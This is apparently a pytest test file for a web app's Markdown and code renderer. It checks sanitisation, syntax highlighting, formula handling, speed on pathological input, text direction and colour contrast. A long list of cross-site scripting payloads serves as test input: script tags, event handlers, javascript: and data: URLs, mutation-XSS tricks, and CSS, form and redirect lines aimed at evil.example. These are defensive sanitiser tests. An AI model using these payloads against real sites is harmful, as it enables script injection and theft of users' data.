"""What people and models wrote is shown well, and never runs."""

import random
import re
import time
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest

from annotation.highlighting import LANGUAGES, highlight
from annotation.prose import ATTRIBUTES, CLASSES, TAGS, VALUES, folded, language_of, to_html
from annotation.templatetags.text import markdown


class Reader(HTMLParser):
    """Reads a page as a browser does, and notes every element, attribute, comment and declaration."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[tuple[str, str]] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, ""))
        for name, value in attrs:
            if name == "class":
                self.found |= {(tag, f"class={one}") for one in (value or "").split()}
            else:
                self.found.add((tag, f"{name}={value}" if name in VALUES.get(tag, {}) else name))

    def handle_data(self, data: str) -> None:
        self.text += data

    def note_markup(self, data: str) -> None:
        self.found.add(("markup", data))

    handle_comment = handle_decl = handle_pi = unknown_decl = note_markup


ALLOWED = (
    {(tag, "") for tag in TAGS}
    | {(tag, name) for tag, names in ATTRIBUTES.items() for name in names}
    | {(tag, f"class={one}") for tag, names in CLASSES.items() for one in names}
    | {(tag, f"{name}={value}") for tag, names in VALUES.items() for name, values in names.items() for value in values}
)


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def not_allowed(html: str) -> set[tuple[str, str]]:
    return read(html).found - ALLOWED


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#10;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](https://example.com 'onmouseover=alert(1)')",
    '[a](<javascript:alert(1)> "title")',
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "https://evil.example",
    "![pixel](https://evil.example/seen.gif)",
    '![x](x"onerror="alert(1))',
    '![x](data:image/svg+xml,<svg onload="alert(1)">)',
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="background:url(//evil.example)" class="x" id="main">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil>",
    "<form action=//evil.example><input name=client_uuid><button>Submit</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<details open ontoggle=alert(1)>",
    "<div hx-get='/admin/' hx-trigger=load data-submit>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\n\n```',
    "`<img src=x onerror=alert(1)>`",
    "> * 1. <script>alert(1)</script>\n>   > ![x](javascript:alert(1))",
    "| <script> | b |\n|:---|---:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "**[*`<svg/onload=alert(1)>`*](javascript:alert(1))**",
    "# <img src=x onerror=alert(1)>\n\n<b>x</b>\n===",
    "<b\0>x</b\0><scr\0ipt>alert(1)</scr\0ipt>",
    "\x00<script>\x00",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>\u2028alert(1)",
    "＜script＞alert(1)＜/script＞",
    "<%73cript>",
    "</p></div></textarea></main><script>alert(1)</script>",
    # in code, formulas, tables and their edges
    "```js\n</code></pre><script>alert(1)</script>\n```",
    '```python\n"""</span><img src=x onerror=alert(1)>"""\n```',
    "```python\n# <script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n<!-- <script>alert(1)</script> -->\n```",
    "```xml\n<a onclick='alert(1)'>\n```",
    "```diff\n+<script>alert(1)</script>\n-<img src=x onerror=alert(1)>\n```",
    "```tex\n\\href{javascript:alert(1)}{<b>x</b>}\n```",
    "```yaml\n<script>: alert(1)\n```",
    '```json\n{"<script>": "</script>"}\n```',
    "```sql\n-- <svg onload=alert(1)>\n```",
    "```css\na{background:url('javascript:alert(1)')}\n</style><script>alert(1)</script>\n```",
    '```python" onmouseover="alert(1)\nx\n```',
    "```python class=x onclick=alert(1)\nx\n```",
    "```<script>alert(1)</script>\nx\n```",
    "```__proto__\nx\n```",
    "~~~js\n`</code>${alert(1)}`\n~~~",
    "    <script>alert(1)</script>",
    "\t<img src=x onerror=alert(1)>",
    "$<script>alert(1)</script>$",
    "$$<img src=x onerror=alert(1)>$$",
    "$$\n</p><script>alert(1)</script>\n$$",
    "\\(<svg onload=alert(1)>\\)",
    "\\[\n<iframe src=javascript:alert(1)>\n\\]",
    '\\("onmouseover="alert(1)\\)',
    "$a$<script>$b$",
    "\\href{javascript:alert(1)}{x}",
    "$\\unicode{<script>}$",
    "| a |\n|---|\n| </td></table><script>alert(1)</script> |",
    '| a" onclick="alert(1) |\n|---|\n| b |',
    '| a |\n|:-" onload=alert(1)-:|\n| b |',
    "|`<script>`|$<script>$|\n|---|---|",
    '3" onclick="alert(1). a',
    "999999999. <b>a</b>",
    # in the spelling of tags
    "<svg/onload=alert(1)>",
    "<svg\x0conload=alert(1)>",
    "<svg\tonload\n=\nalert(1)>",
    "<<script>alert(1)//<</script>",
    "<script/random>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=`x` onerror=`alert(1)`>",
    '<img """><script>alert(1)</script>">',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<div style=width:expression(alert(1))>",
    "<math href=javascript:alert(1)>x</math>",
    "<animate onbegin=alert(1) attributeName=x dur=1s>",
    "<set attributeName=href to=javascript:alert(1)>",
    "<foreignObject><script>alert(1)</script></foreignObject>",
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<plaintext><script>alert(1)</script>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<form id=x></form><button form=x formaction=javascript:alert(1)>",
    "<label for=edit-text>click</label><output name=verdict>",
    "<a id=label-form name=keys>",
    "<span class=visually-hidden hidden>x</span>",
    "<p class=formula dir=rtl tabindex=5 role=alert>",
    "<custom-element onclick=alert(1)>",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>",
    "<script type=importmap>{}</script>",
    "<dialog open>x</dialog>",
    "<portal src=//evil.example>",
    # in what Markdown makes of things
    "[a](java\\script:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a]( javascript:alert(1) )",
    "[a](<java\tscript:alert(1)>)",
    "[<script>alert(1)</script>](x)",
    "![<script>alert(1)</script>](x)",
    "[a]: javascript:alert(1) '<script>alert(1)</script>'\n\n[a]",
    "![a][b]\n\n[b]: data:text/html,<script>alert(1)</script>",
    "<mailto:a@b.de?body=<script>alert(1)</script>>",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#0;&#x110000;&#xD800;<b>",
    "\\<script>alert(1)\\</script>",
    "~~<script>~~**</script>**",
    "`` ` <script> ` ``",
    "- <script>\n  alert(1)\n  </script>",
    "> ```js\n> </blockquote><script>alert(1)</script>",
    "1. $$\n   </ol><script>alert(1)</script>\n   $$",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_is_written_can_run(text):
    for spelled in (text, f"Hello *there*\n\n{text}\n\n- and {text}", text.upper(), text * 3):
        assert not_allowed(to_html(spelled)) == set()


def test_no_mixture_of_attacks_can_run_either():
    draw = random.Random(7)
    glue = ["", "\n", "\n\n", " ", "> ", "- ", "`", "```\n", "**", "|", "[", "](", ")", "<", ">", '"', "'", "&", "\\"]
    for _ in range(600):
        text = "".join(draw.choice(ATTACKS if draw.random() < 0.4 else glue) for _ in range(12))
        assert not_allowed(to_html(text)) == set(), text


def test_the_reader_sees_what_it_should():
    assert not_allowed("<p onclick=x>a<script></script><!-- c --></p>") == {
        ("p", "onclick"),
        ("script", ""),
        ("markup", " c "),
    }


def test_markup_is_shown_as_it_was_written():
    assert read(to_html("a <b>b</b> <script>alert(1)</script> &lt;i&gt;")).text == (
        "a <b>b</b> <script>alert(1)</script> <i>\n"
    )


def test_links_keep_their_words_and_lose_their_address():
    html = to_html("See [our shop](https://shop.example/secret).")
    assert "our shop" in html
    assert "secret" not in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("*a* **b** ~~c~~ `d`", '<p dir="auto"><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>\n'),
        ("# a\n\nb\nc", '<h1 dir="auto">a</h1>\n<p dir="auto">b<br>\nc</p>\n'),
        ("3. a\n4. b", '<ol start="3" dir="auto">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> a\n\n---", '<blockquote dir="auto">\n<p>a</p>\n</blockquote>\n<hr>\n'),
        ("```\nx < 1\n```", '<pre dir="ltr" tabindex="0"><code>x &lt; 1\n</code></pre>\n'),
        ("", ""),
    ],
)
def test_markdown_is_rendered(text, html):
    assert to_html(text) == html
    assert markdown(text) == to_html(text)


def test_a_table_is_rendered():
    found = {tag for tag, _ in read(to_html("| a | b |\n|---|:-:|\n| 1 | 2 |")).found}
    assert found == {"div", "table", "thead", "tbody", "tr", "th", "td"}


NASTY: dict[str, Callable[[int], str]] = {
    "quotes in quotes": lambda n: ">" * n + "a",
    "lists in lists": lambda n: "".join("  " * level + "- a\n" for level in range(int(n**0.5))),
    "brackets": lambda n: "[" * n,
    "closed brackets": lambda n: "[" * n + "a" + "]" * n,
    "links in links": lambda n: "[a](" * n,
    "stars": lambda n: "*a **b " * n,
    "back-ticks": lambda n: "".join("`" * (length % 200) + " " for length in range(n // 100)),
    "tags": lambda n: "<a " * n,
    "comments": lambda n: "<!-- a " * n,
    "entities": lambda n: "&amp;" * n,
    "dollars": lambda n: "$a" * n,
    "formulas": lambda n: "\\(" * n,
    "formulas that stand alone": lambda n: "$$ a\n" * n,
    "fences": lambda n: "```py\nx\n```\n" * (n // 4),
    "one long line": lambda n: "a" * n * 10,
}


@pytest.mark.parametrize("make", NASTY.values(), ids=NASTY)
def test_no_text_makes_the_page_slow(make):
    started = time.process_time()
    to_html(make(5_000))
    assert time.process_time() - started < 3


# Code


def test_code_in_a_language_we_know_is_coloured_and_reads_the_same():
    code = "def f(x):  # why\n    return 'a' + str(1)\n"
    html = to_html(f"```python\n{code}```")
    assert read(html).text == code + "\n"
    assert '<span class="code-keyword">def</span> <span class="code-name">f</span>(x):' in html
    assert '<span class="code-comment"># why</span>' in html
    assert """<span class="code-string">'a'</span>""" in html


def test_code_in_another_language_or_none_is_plain():
    for language in ("", "klingon", "python3000"):
        assert "<span" not in to_html(f"```{language}\nif x: 1\n```")


BITS = [
    *('"', "'", "`", "\\", "/*", "<!--", "#", "//", "--", '"""', "\\'", '\\"', '"a":', "a(", "a: ", "- a\n", " ", "1."),
    *("<a ", "@x", "$y", "+ b\n", "% c\n", "d = 'e'\n"),
]


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_no_colour_changes_the_code(language):
    draw = random.Random(language)
    for _ in range(20):
        code = "".join(draw.choice(BITS) for _ in range(30))
        assert read(highlight(code, language)).text == code


@pytest.mark.parametrize(
    "language", ["c", "js", "rust", "py", "rb", "sh", "sql", "lua", "yaml", "css", "json", "html", "tex"]
)
def test_no_code_makes_the_colours_slow(language):
    started = time.process_time()
    for bit in BITS:
        highlight(bit * 5_000, language)
    assert time.process_time() - started < 5, "a fifth of a second on an idle core; minutes if it were quadratic"


# Formulas


@pytest.mark.parametrize(
    "formula",
    [
        r"\(a_1 * b_2 * c\)",
        r"\[x \\ y_*z*\]",
        "$a_i * b_i * c$",
        "$$a_b*c*d$$",
        r"$\text{a} \$ b$",
        "$$\n\\int_0^1 x\n- y\n= z\n* w\n$$",
        "\\[\n# a\n\n| b |\n\\]",
    ],
)
def test_a_formula_stays_as_it_was_written(formula):
    page = read(to_html(f"Here:\n{formula}\n\nso" if "\n" in formula else f"Here: {formula} so"))
    assert formula in page.text
    assert not {"em", "h1", "ul", "hr", "td"} & {tag for tag, _ in page.found}


@pytest.mark.parametrize(
    "text", ["$5 and *this* $10", "US$ 3, *that* C$ 4", "$5–$10, *or*", "$ *a* $", r"\(*a*", "*a* $$"]
)
def test_prices_are_no_formulas(text):
    html = to_html(text)
    assert "<em>" in html
    assert "formula" not in html


# Directions and languages


def test_each_block_finds_its_own_direction_and_code_runs_from_the_left():
    html = to_html("مرحبا\n\nHello\n\n- شاي\n\n```\nx\n```")
    assert html.count('<p dir="auto">') == 2
    assert '<ul dir="auto">\n<li>' in html, "a list with a direction in its items would not see their letters"
    assert '<pre dir="ltr"' in html


@pytest.mark.parametrize(
    ("text", "said", "language"),
    [
        ("x", "pt-BR", "pt-BR"),
        ("お茶", "", "ja"),
        ("녹차", "", "ko"),
        ("绿茶", "", "zh"),
        ("お茶", "x y", "ja"),
        ("a", '"><', ""),
    ],
)
def test_a_text_tells_its_language_if_nobody_did(text, said, language):
    assert language_of(text, said) == language


# Long texts


def test_a_short_text_is_not_folded():
    assert folded("Hello *there*") == (to_html("Hello *there*"), "")
    assert "<details" not in markdown("a " * 2_900)


def test_a_long_text_is_folded_between_two_blocks_and_loses_nothing():
    text = "\n\n".join(f"Paragraph {number}: " + "word " * 60 for number in range(40))
    first, rest = folded(text)
    assert read(first).text + read(rest).text == read(to_html(text)).text
    assert 1_000 < len(read(first).text) <= 4_000
    assert rest.startswith("<p")
    assert f"Show all {len(text):,} characters" in markdown(text)
    assert markdown(text, "whole") == to_html(text)


@pytest.mark.parametrize(
    "text", ["word " * 3_000, "x" * 12_000, "line\n" * 3_000, "```py\n" + "a = 1\n" * 2_000 + "```"]
)
def test_one_block_that_is_too_long_is_cut_within(text):
    first, rest = folded(text)
    words = "".join((read(first).text + read(rest).text).split())
    assert words == "".join(text.replace("```py", "").replace("```", "").split())
    assert len(read(first).text) <= 4_100
    assert ("<pre" in rest) == text.startswith("```")


def test_a_long_text_is_as_safe_in_both_parts():
    for text in ("<script>alert(1)</script>\n\n" * 400, "```js\n" + "</pre><script>\n" * 800):
        for part in folded(text):
            assert part
            assert not_allowed(part) == set()


# Colours


def contrast(one: str, other: str) -> float:
    """WCAG 2.2: (L1 + 0.05) / (L2 + 0.05) of the relative luminances; black on white is 21."""

    def luminance(colour: str) -> float:
        parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def test_the_contrast_is_computed_as_published():
    assert contrast("#000000", "#ffffff") == pytest.approx(21)
    assert contrast("#767676", "#ffffff") == pytest.approx(4.54, abs=0.005)


@pytest.mark.parametrize("scheme", [0, 1], ids=["light", "dark"])
def test_the_colours_of_code_can_be_read_in_both_schemes(scheme):
    css = (
        (Path(__file__).parents[2] / "static" / "css" / "tokens.css").read_text().split("prefers-color-scheme")[scheme]
    )
    tokens = dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6});", css))
    for name in ("code-keyword", "code-string", "code-number", "code-name", "ink-soft", "bad", "ink"):
        for ground in ("sunken", "surface"):
            assert contrast(tokens[name], tokens[ground]) >= 4.5, (name, ground)
